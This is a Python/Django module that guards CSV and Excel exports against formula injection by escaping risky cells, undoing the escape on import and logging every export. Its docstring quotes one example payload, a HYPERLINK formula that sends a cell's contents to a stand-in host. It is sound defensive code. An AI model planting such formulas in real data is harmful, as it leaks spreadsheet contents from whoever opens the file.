"""Spreadsheet files that are safe to open: no cell can run a formula.

A rep may name an account `=HYPERLINK("http://x/?"&A1,"Click")`; a manager who opens the
export in Excel would run it. Every file the product writes (the dashboard's CSVs, the admin's
CSV and Excel exports) goes through `safe_cell`:

- in CSV, a text cell that begins with = + - @ (or tab, carriage return) gets a leading
  apostrophe, which spreadsheets read as "this is text" (OWASP's advice for CSV injection);
  so does a text that already begins with an apostrophe, so that the escape can be undone;
- in Excel files, such a cell is written as a string cell, never as a formula;
- numbers and dates stay numbers and dates, and so does text that is a plain number ("-5").

Importing a file undoes the escape (`unescape_cell`), so a phone number like +81 3 1234 5678
or a value exported and imported again comes back as it was.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

from django.http import HttpResponse
from import_export.admin import ImportExportModelAdmin
from import_export.formats import base_formats
from import_export.formats.base_formats import CSV, XLSX
from simple_history.admin import SimpleHistoryAdmin

from . import security_log
from .models import SecurityEventKind

# What a spreadsheet may read as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|\.\d+)([eE][+-]?\d+)?$")


def needs_escape(value: str) -> bool:
    if not value:
        return False
    if value.startswith(ESCAPE):
        return True
    return value.startswith(FORMULA_START) and not PLAIN_NUMBER.match(value)


def safe_cell(value):
    """A cell value for CSV: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, str) and needs_escape(value):
        return ESCAPE + value
    return value


def unescape_cell(value):
    """Undo safe_cell on a value read from a file."""
    if isinstance(value, str) and value.startswith(ESCAPE) and needs_escape(value[1:]):
        return value[1:]
    return value


def csv_bytes(header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """CSV as Excel in Japan opens it: UTF-8 with a byte order mark, every cell made safe."""
    return _csv(header, rows)[0]


def _csv(header: Iterable, rows: Iterable[Iterable]) -> tuple[bytes, int]:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(str(cell)) for cell in header])
    count = 0
    for row in rows:
        writer.writerow(["" if cell is None else safe_cell(cell) for cell in row])
        count += 1
    return out.getvalue().encode("utf-8-sig"), count


# Query parameters that say how a list is shown, not which rows it holds.
NOT_FILTERS = {"format", "export", "page", "sort", "o"}


def log_export(what: str, *, rows: int, format: str, params=None) -> None:
    """Every export is in the security log: which list, which filters, how many rows."""
    params = params if params is not None else {}
    filters = {key: value for key, value in params.items() if key not in NOT_FILTERS and value}
    security_log.record(
        SecurityEventKind.EXPORT, list=what, rows=rows, format=format, filters=filters
    )


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download, logged with the filters of the request it answers."""
    content, count = _csv(header, rows)
    request = security_log.current_request.get()
    log_export(filename, rows=count, format="csv", params=getattr(request, "GET", None))
    response = HttpResponse(content, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


class SafeCSV(CSV):
    """The admin's CSV: read as Excel writes it in Japan, written safe to open.

    Excel's "CSV" is Shift_JIS (cp932) and its "CSV UTF-8" starts with a byte order mark; both
    are read. Exports carry the mark, without which Excel shows Japanese as mojibake.
    """

    def is_binary(self) -> bool:
        # Read the upload as bytes so the encoding is decided here rather than by the admin.
        return True

    def get_read_mode(self) -> str:
        return "rb"

    def create_dataset(self, in_stream, **kwargs):
        if isinstance(in_stream, bytes):
            try:
                in_stream = in_stream.decode("utf-8-sig")
            except UnicodeDecodeError:
                in_stream = in_stream.decode("cp932")
        dataset = super().create_dataset(in_stream, **kwargs)
        return _unescaped(dataset)

    def export_data(self, dataset, **kwargs) -> bytes:
        return csv_bytes(dataset.headers or [], dataset)


class SafeXLSX(XLSX):
    """The admin's Excel file: text that looks like a formula is a string cell, never a formula.

    The admin hands binary formats native values, so numbers and dates are already typed; only
    the cells a spreadsheet library took for formulas (any text starting with "=") are turned
    back into text.
    """

    def export_data(self, dataset, **kwargs) -> bytes:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(super().export_data(dataset, **kwargs)))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cell.data_type = "s"
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()


def _unescaped(dataset):
    for index, row in enumerate(dataset):
        if any(isinstance(cell, str) and cell.startswith(ESCAPE) for cell in row):
            dataset[index] = [unescape_cell(cell) for cell in row]
    return dataset


IMPORT_EXPORT_FORMATS = [SafeCSV, SafeXLSX]
# The admin hands native numbers and dates to the formats in this list (compared by exact
# type); without it our Excel files would hold every number as text.
base_formats.BINARY_FORMATS.append(SafeXLSX)


class SpreadsheetAdmin(ImportExportModelAdmin, SimpleHistoryAdmin):
    """Import and export in CSV (as Excel writes it) and Excel, safe to open, and who changed
    what."""

    formats = IMPORT_EXPORT_FORMATS

    def get_export_data(self, file_format, request, queryset, **kwargs):
        data = super().get_export_data(file_format, request, queryset, **kwargs)
        log_export(
            str(self.model._meta.verbose_name_plural),
            rows=queryset.count(),
            format=file_format.get_title(),
            params=request.GET,
        )
        return data
